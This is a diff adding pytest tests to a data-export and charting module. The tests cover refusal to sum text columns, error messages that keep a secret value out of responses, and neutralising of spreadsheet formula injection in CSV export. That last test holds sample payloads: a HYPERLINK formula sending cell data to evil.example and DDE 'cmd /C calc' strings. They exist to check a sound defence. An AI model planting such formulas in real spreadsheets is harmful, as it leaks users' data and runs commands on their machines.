@@ -169,6 +169,32 @@ def test_a_box_of_text_is_refused() -> None:
         figure_data(frame(), figure("box", y="sex"))
 
 
+@pytest.mark.parametrize(
+    "spec",
+    [
+        figure("bar", x="sex", y="species"),
+        figure("heatmap", x="sex", y="clutch", z="species"),
+        figure("pie", x="sex", values="species"),
+        figure("sunburst", path=["sex"], values="species"),
+    ],
+)
+def test_adding_up_text_is_refused_by_name(spec: FigureComponent) -> None:
+    with pytest.raises(InvalidInputError) as error:
+        figure_data(frame(), spec)
+    assert str(error.value) == (
+        f"figure 'fig': a {spec.kind} of column 'species' needs numbers, "
+        "but the column holds String values"
+    )
+
+
+def test_an_engine_failure_is_answered_without_the_engines_words() -> None:
+    # a strict cast that fails quotes the values it met: those stay in the server's log
+    failing = pl.LazyFrame({"code": ["SECRET-VALUE"]}).with_columns(pl.col("code").cast(pl.Int64))
+    with pytest.raises(InvalidInputError) as error:
+        metric_value(failing, metric("max", "code"))
+    assert str(error.value) == "the query failed on this collection's values"
+
+
 def test_lines_are_sorted_by_x() -> None:
     line = figure_data(frame(), figure("line", x="measured", y="body_mass_g"))
     assert line.frame[ROW_COLUMN].to_list() == [1, 3, 4, 5, 0, 2]
@@ -361,3 +387,33 @@ def test_csv_export_of_the_filtered_rows() -> None:
     assert everything[1] == "b,Adelie,female,3500.0,2,2024-01-02"
     with pytest.raises(InvalidInputError, match="column 'weight'"):
         csv_export(females, ["weight"])
+
+
+def test_csv_export_neutralises_what_a_spreadsheet_would_run() -> None:
+    cells = pl.LazyFrame(
+        {
+            "=cmd": ["a", "b", "c", "d", "e", "f", "g"],
+            "comment": [
+                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+                "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "-1+1",
+                "\t=1+1",
+                "\r=1+1",
+                "plain - text = fine",
+            ],
+            "delta": [-1.5, 2.0, -3.25, 0.5, -0.0, 1e-9, None],
+            "count": [-1, 2, -3, 4, -5, 6, 7],
+        }
+    )
+    text = csv_export(cells, []).decode()
+    assert text.splitlines()[:6] == [
+        "'=cmd,comment,delta,count",
+        'a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5,-1',
+        "b,'+cmd|' /C calc'!A0,2.0,2",
+        "c,'@SUM(1+1)*cmd|' /C calc'!A0,-3.25,-3",
+        "d,'-1+1,0.5,4",
+        "e,'\t=1+1,-0.0,-5",
+    ]
+    assert 'f,"\'\r=1+1",1e-9,6\n' in text  # a carriage return is quoted, and neutralised
+    assert text.endswith("g,plain - text = fine,,7\n")
